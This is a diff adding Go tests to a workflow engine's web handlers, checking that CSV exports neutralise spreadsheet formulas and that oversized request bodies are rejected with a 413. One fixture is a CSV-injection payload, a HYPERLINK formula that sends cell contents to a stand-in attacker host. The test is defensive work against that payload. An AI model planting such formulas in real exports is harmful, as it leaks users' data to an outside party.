@@ -1,10 +1,17 @@
 package web_test
 
 import (
+	"bytes"
+	"context"
 	"encoding/base64"
 	"fmt"
+	"github.com/cockpit-engine/cockpit/internal/engine"
+	"github.com/cockpit-engine/cockpit/internal/engine/store"
+	"io"
+	"mime/multipart"
 	"net/http"
 	"net/url"
+	"strconv"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -168,4 +175,80 @@ func TestHostileParams(t *testing.T) {
 	}
 	// A malformed query string is a 400 too.
 	wantBad(t, "malformed escape", "query string", send(http.MethodGet, "/instances?state=%zz", nil, nil))
+}
+
+// TestInstancesCSVFormulas: a business key a spreadsheet would run as a formula is
+// written as text in the export (CSV injection); a plain key and the numbers are not.
+func TestInstancesCSVFormulas(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t)
+	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	for _, bk := range []string{formula, "@SUM(1)", "-2+3", "\t=1"} {
+		if _, err := f.e.StartInstance(context.Background(), "pay", engine.StartOptions{BusinessKey: bk, Variables: map[string]any{"fail": true}}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	resp, body := fetch(t, f.srv.URL+"/instances.csv")
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("instances.csv: %d", resp.StatusCode)
+	}
+	keys := map[string]bool{}
+	for _, row := range readCSV(t, body)[1:] {
+		keys[row[3]] = true
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("column %d: %q would run as a formula", i, cell)
+				}
+			}
+		}
+	}
+	for _, want := range []string{"'" + formula, "'@SUM(1)", "'-2+3", "'\t=1", "B-1"} {
+		if !keys[want] {
+			t.Errorf("no business key %q in %v", want, keys)
+		}
+	}
+}
+
+// TestBodyLimit: a form of any route but deploy, urlencoded or multipart, over
+// MaxBodyBytes is a 413 that names the limit; nothing runs.
+func TestBodyLimit(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t)
+	big := strings.Repeat("x", web.MaxBodyBytes+1)
+	urlencoded := func(path string) *http.Request {
+		req, _ := http.NewRequest(http.MethodPost, f.srv.URL+path, strings.NewReader(url.Values{"reason": {big}}.Encode()))
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		return req
+	}
+	multi := func(path string) *http.Request {
+		var b bytes.Buffer
+		w := multipart.NewWriter(&b)
+		fw, _ := w.CreateFormFile("file", "big.txt")
+		_, _ = fw.Write([]byte(big))
+		_ = w.Close()
+		req, _ := http.NewRequest(http.MethodPost, f.srv.URL+path, &b)
+		req.Header.Set("Content-Type", w.FormDataContentType())
+		return req
+	}
+	chunked := func(path string) *http.Request {
+		req := urlencoded(path)
+		req.ContentLength = -1 // no length: the limit holds while reading
+		req.Body = io.NopCloser(strings.NewReader(url.Values{"reason": {big}}.Encode()))
+		return req
+	}
+	for _, path := range []string{"/instances/" + f.ok[0].ID + "/cancel", "/instances/" + f.ok[0].ID + "/variables",
+		"/messages/correlate", "/tasks/none/complete", "/incidents/retry-bulk"} {
+		for name, mk := range map[string]func(string) *http.Request{"urlencoded": urlencoded, "multipart": multi, "chunked": chunked} {
+			req := mk(path)
+			req.Header.Set("Sec-Fetch-Site", "same-origin")
+			p := f.do(req)
+			if p.status != http.StatusRequestEntityTooLarge || !strings.Contains(p.body, "MaxBodyBytes") {
+				t.Errorf("%s %s: %d, want 413 naming MaxBodyBytes\n%.300s", name, path, p.status, mainText(p))
+			}
+		}
+	}
+	if d, err := f.e.GetInstance(context.Background(), f.ok[0].ID); err != nil || d.Instance.State != store.InstanceActive {
+		t.Errorf("instance after refused posts: %v %+v", err, d)
+	}
 }
